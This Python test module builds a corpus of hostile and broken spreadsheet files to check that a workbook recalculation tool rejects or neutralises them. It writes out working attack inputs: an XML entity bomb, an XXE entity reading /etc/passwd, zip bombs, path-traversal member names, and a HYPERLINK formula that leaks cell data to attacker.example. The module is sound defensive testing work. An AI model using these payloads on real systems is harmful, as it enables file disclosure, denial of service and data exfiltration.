"""A corpus of hostile and broken workbooks, made at test time: one file per class of fault (issue 10).

Each :class:`Case` builds one small file in a folder and says what its summary row must
say: ``""`` when the workbook must be recalculated cleanly (a check on its values may
follow), else a piece of its ``error``. The classes are those the hostile trial found
(items 5-7 of issue 10) and those that already held (entity bombs, XXE, zip bombs with
honest and lying headers, encrypted files, ``.xls``, circular references ...).

:func:`build_corpus` writes every case into a folder; ``tests/test_hostile_corpus.py``
runs them as one batch with a good workbook, and docs/recalc.md's fault table lists the
same classes.
"""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from kpitree.workbook_templates import template_path
from openpyxl.workbook.defined_name import DefinedName

TEMPLATE = template_path("ja")
SHEET = "xl/worksheets/sheet1.xml"
LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@dataclass(frozen=True)
class Case:
    name: str  # the file's name in the corpus
    what: str  # the class of fault, as docs/recalc.md names it
    build: Callable[[Path], None]  # writes the file at the given path
    expect: str  # "" for a clean row, else a piece of the row's error


# --- building blocks ------------------------------------------------------------------------------


def members(src: Path = TEMPLATE) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(src) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def write_zip(path: Path, items: list[tuple[str, bytes]]) -> None:
    import warnings

    with warnings.catch_warnings():  # duplicate names are one of the cases
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in items:
                z.writestr(name, data)


def edited(edit: Callable[[str, bytes], bytes | None], extra: tuple[tuple[str, bytes], ...] = ()) -> Callable[[Path], None]:
    """A builder: the template with ``edit(name, bytes)`` applied to each member (None drops it), plus ``extra``."""

    def build(path: Path) -> None:
        items = [(n, d2) for n, d in members() if (d2 := edit(n, d)) is not None]
        write_zip(path, [*items, *extra])

    return build


def in_part(part: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    return edited(lambda n, d: change(d) if n == part else d)


def first_cell(xml: bytes, kind: bytes = b"") -> re.Match[bytes]:
    """The first ``<c ...>...</c>`` (with ``kind`` in its attributes, e.g. ``t="s"``)."""
    for m in re.finditer(rb"<c [^>]*?>.*?</c>", xml, re.S):
        if kind in m.group(0).split(b">", 1)[0]:
            return m
    raise AssertionError("no such cell in the template")


def with_cell(xml: bytes, new: Callable[[bytes], bytes], kind: bytes = b"") -> bytes:
    m = first_cell(xml, kind)
    return xml[: m.start()] + new(m.group(0)) + xml[m.end() :]


def small_book(path: Path, cells: dict[str, object], names: dict[str, str] | None = None, text: tuple[str, ...] = ()) -> None:
    """A one-sheet workbook ``S`` with ``cells`` (cells in ``text`` stored as text even if they start with '=')."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    for ref, value in cells.items():
        ws[ref] = value
        if ref in text:
            ws[ref].data_type = "s"
    for name, ref in (names or {}).items():
        wb.defined_names[name] = DefinedName(name, attr_text=ref)
    wb.save(path)


def inline_nbsp(cell: bytes) -> bytes:
    """The cell as an inline string holding ``&nbsp;``: an entity XML does not define."""
    ref = re.search(rb'\br="([^"]+)"', cell)
    assert ref is not None
    return b'<c r="' + ref.group(1) + b'" t="inlineStr"><is><t>a&nbsp;b</t></is></c>'


def ole(path: Path, streams: dict[str, bytes]) -> None:
    from kpitree.addin.cfb import build_compound_file

    path.write_bytes(build_compound_file(streams))


def zip_bomb(lying: bool) -> Callable[[Path], None]:
    """A template with a 130 MB member of zeros (130 KB compressed), past the 128 MB member limit.

    With ``lying`` the headers claim 1,000 bytes, so only a capped read finds out.
    """

    def build(path: Path) -> None:
        size = 130 * 2**20
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        chunk = b"\0" * 2**20
        body = b"".join(co.compress(chunk) for _ in range(size // len(chunk))) + co.flush()
        write_zip(path, members())
        claimed = 1000 if lying else size
        _append_raw_member(path, "xl/media/zeros.bin", body, size, claimed, zlib.crc32(b"\0" * size) if not lying else 0)

    return build


def _append_raw_member(path: Path, name: str, body: bytes, size: int, claimed: int, crc: int) -> None:
    """Add a deflated member whose headers say ``claimed`` bytes (the data holds ``size``)."""
    data = path.read_bytes()
    end = data.rfind(b"PK\x05\x06")
    _, _, _, count, _, cd_size, cd_offset, _ = struct.unpack_from("<IHHHHIIH", data, end)
    central = data[cd_offset : cd_offset + cd_size]
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), claimed, len(name), 0) + name.encode()
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(body), claimed, len(name),
                        0, 0, 0, 0, 0, cd_offset) + name.encode()
    new_offset = cd_offset + len(local) + len(body)
    out = data[:cd_offset] + local + body + central + entry
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, cd_size + len(entry), new_offset, 0)
    path.write_bytes(out)


def utf16_sheet(data: bytes) -> bytes:
    text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return text.encode("utf-16")


BOMB = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><sst>&lol2;</sst>'
XXE = b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


# --- the cases ------------------------------------------------------------------------------------


def cases() -> list[Case]:
    """Every class of fault, one file each (names sort in this order)."""
    out = [
        # already held before issue 10
        Case("a01_text.xlsx", "not a zip", lambda p: p.write_text("hello, not a workbook"), "not a zip file"),
        Case("a02_empty.xlsx", "empty file", lambda p: p.write_bytes(b""), "not a zip file"),
        Case("a03_truncated.xlsx", "truncated zip", lambda p: p.write_bytes(TEMPLATE.read_bytes()[:9000]), "zip"),
        Case("a04_legacy.xls", ".xls (OLE/BIFF)", lambda p: ole(p, {"Workbook": b"\0" * 600}), "legacy .xls"),
        Case("a05_calc.ods", ".ods", lambda p: write_zip(p, [("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                                                              ("content.xml", b"<x/>")]), "OpenDocument"),
        Case("a06_binary.xlsb", ".xlsb", lambda p: write_zip(p, [("xl/workbook.bin", b"\0" * 10)]), "binary .xlsb"),
        Case("a07_secret.xlsx", "password-protected (encrypted OLE)",
             lambda p: ole(p, {"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\0" * 600}),
             "password-protected"),
        Case("a08_entity_bomb.xlsx", "XML entity bomb", edited(lambda n, d: BOMB if n == "xl/sharedStrings.xml" else d),
             "declares a DTD/entities"),
        Case("a09_xxe.xlsx", "external entity (XXE)",
             in_part("xl/workbook.xml", lambda d: d.replace(b"?>", b"?>" + XXE, 1)), "declares a DTD/entities"),
        Case("a10_zipbomb.xlsx", "zip bomb (honest headers)", zip_bomb(lying=False), "past the limit"),
        Case("a11_zipbomb_lying.xlsx", "zip bomb (lying headers)", zip_bomb(lying=True), "expands past the size limit"),
        Case("a12_no_workbook.xlsx", "zip without xl/workbook.xml", lambda p: write_zip(p, [("a.txt", b"x")]),
             "no xl/workbook.xml"),
        Case("a13_circular.xlsx", "circular reference",
             lambda p: small_book(p, {"A1": "=B1+1", "B1": "=C1*2", "C1": "=A1"}), "circular reference: S!A1"),
        Case("a14_missing_sheet.xlsx", "missing sheet (#REF!, copy still written)",
             lambda p: small_book(p, {"A1": "=Missing!A1+1"}), "no sheet named 'Missing'"),
        Case("a15_encrypted_member.xlsx", "encrypted zip member", _encrypted_member, "zip member"),
        Case("a16_sheet_missing.xlsx", "sheet without its part", edited(lambda n, d: None if n == SHEET else d),
             "has no part in the package"),
        # issue 10 item 5: exceptions in the read phase
        Case("b01_nbsp_inline.xlsx", "inline string with an undefined entity (&nbsp;)",
             in_part(SHEET, lambda d: with_cell(d, inline_nbsp)), "undefined entity"),
        Case("b02_deep_formula.xlsx", "formula nested 2,000 deep within Excel's 8,192 characters (legal: computed)",
             lambda p: small_book(p, {"A1": "=" + "-(" * 2000 + "1" + ")" * 2000, "A2": 1}, {"x": "S!$A$2"}),
             ""),
        # item 6: silent wrong results
        Case("c01_cut_sheet.xlsx", "sheet XML cut in half", in_part(SHEET, lambda d: d[: len(d) // 2]), "is damaged"),
        Case("c02_utf16_sheet.xlsx", "UTF-16 sheet XML (legal: read correctly)", in_part(SHEET, utf16_sheet), ""),
        Case("c03_sst_minus_one.xlsx", "shared-string index -1",
             in_part(SHEET, lambda d: with_cell(d, lambda c: re.sub(rb"<v>\d+</v>", b"<v>-1</v>", c), b't="s"')),
             "shared string index -1 out of range"),
        Case("c04_sst_past_end.xlsx", "shared-string index past the end",
             in_part(SHEET, lambda d: with_cell(d, lambda c: re.sub(rb"<v>\d+</v>", b"<v>99999</v>", c), b't="s"')),
             "shared string index 99999 out of range"),
        Case("c05_two_cells.xlsx", "two <c> elements for one cell",
             in_part(SHEET, lambda d: with_cell(d, lambda c: c + c)), "stored twice"),
        Case("c06_bad_number.xlsx", "a value that is no number",
             in_part(SHEET, lambda d: re.sub(rb'(<c r="[A-Z]+[0-9]+"(?: s="[0-9]+")?>(?:<f>[^<]*</f>)?<v>)-?[0-9.]+(</v>)',
                                             rb"\g<1>12abc\2", d, count=1)),
             "bad number"),
        # item 7: smaller holes
        Case("d01_dtd_after_padding.xlsx", "DTD after 4,096 bytes of padding",
             in_part("docProps/app.xml", lambda d: d.replace(b"?>", b"?>" + b" " * 8000 + b"<!DOCTYPE x []>", 1)),
             "declares a DTD/entities"),
        Case("d02_dtd_in_other_part.xlsx", "DTD in a part not named .xml",
             edited(lambda n, d: d, (("xl/media/notes.bin", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"),)),
             "declares a DTD/entities"),
        Case("d03_dotdot_member.xlsx", "member named ../x", edited(lambda n, d: d, (("../evil.txt", b"x"),)),
             "not a plain relative path"),
        Case("d04_absolute_member.xlsx", "member named /abs", edited(lambda n, d: d, (("/tmp/evil.txt", b"x"),)),
             "not a plain relative path"),
        Case("d05_backslash_member.xlsx", "member named ..\\x", edited(lambda n, d: d, (("..\\evil.txt", b"x"),)),
             "not a plain relative path"),
        Case("d06_duplicate_member.xlsx", "two members with one name",
             edited(lambda n, d: d, (("xl/styles.xml", members_dict()["xl/styles.xml"]),)), "two members named"),
        Case("d07_utf16_dtd.xlsx", "DTD in a UTF-16 part",
             in_part("docProps/core.xml", lambda d: d.replace(b"?>", b"?>" + b" " * 5000 + b"<!DOCTYPE x []>", 1).decode()
                     .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")), "declares a DTD/entities"),
        # item 2: data that would be a formula in a summary (a clean row; the summary must hold it as text)
        Case("e01_formula_text.xlsx", "named cell holding =HYPERLINK(...) text",
             lambda p: small_book(p, {"A1": LEAK, "A2": -3.5, "A3": "=A2*2"}, {"leak": "S!$A$1", "neg": "S!$A$2", "calc": "S!$A$3"},
                                  text=("A1",)), ""),
        Case("e02_macros.xlsm", ".xlsm with macros (vbaProject.bin kept byte for byte)",
             edited(lambda n, d: d.replace(b'<Default Extension="xml"', b'<Default Extension="bin" ContentType="application/'
                                            b'vnd.ms-office.vbaProject"/><Default Extension="xml"', 1) if n == "[Content_Types].xml" else d,
                    (("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8),)), ""),
    ]
    return out


def members_dict() -> dict[str, bytes]:
    return dict(members())


def _encrypted_member(path: Path) -> None:
    """The template with one member flagged as encrypted (bit 0), as zip tools write with a password."""
    write_zip(path, members())
    data = bytearray(path.read_bytes())
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # every local and central header
        for m in re.finditer(re.escape(sig), bytes(data)):
            start = m.start()
            flags = struct.unpack_from("<H", data, start + flag_at)[0]
            struct.pack_into("<H", data, start + flag_at, flags | 0x1)
    path.write_bytes(bytes(data))


def good_book(path: Path) -> None:
    """The shipped template itself: must come out clean, on the fast path."""
    path.write_bytes(TEMPLATE.read_bytes())


def build_corpus(folder: Path) -> dict[str, Case]:
    """Every case written into ``folder`` (plus ``a00_good.xlsx``); the cases by file name."""
    folder.mkdir(parents=True, exist_ok=True)
    good_book(folder / "a00_good.xlsx")
    built = {}
    for case in cases():
        case.build(folder / case.name)
        built[case.name] = case
    return built


DTD_MARKERS = (b"<!DOCTYPE", b"<!ENTITY", "<!DOCTYPE".encode("utf-16-le"), "<!ENTITY".encode("utf-16-le"))


def assert_clean_output(path: Path) -> None:
    """An output as every output must be: a valid zip, with plain member names only, and no DTD in any member."""
    from kpitree.recalculation.io.package import plain_member_name

    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None, f"{path.name}: a member fails its CRC"
        for info in z.infolist():
            assert plain_member_name(info.filename), f"{path.name}: member {info.filename!r}"
            data = z.read(info)
            assert not any(m in data.upper() for m in DTD_MARKERS), f"{path.name}: DTD in {info.filename}"
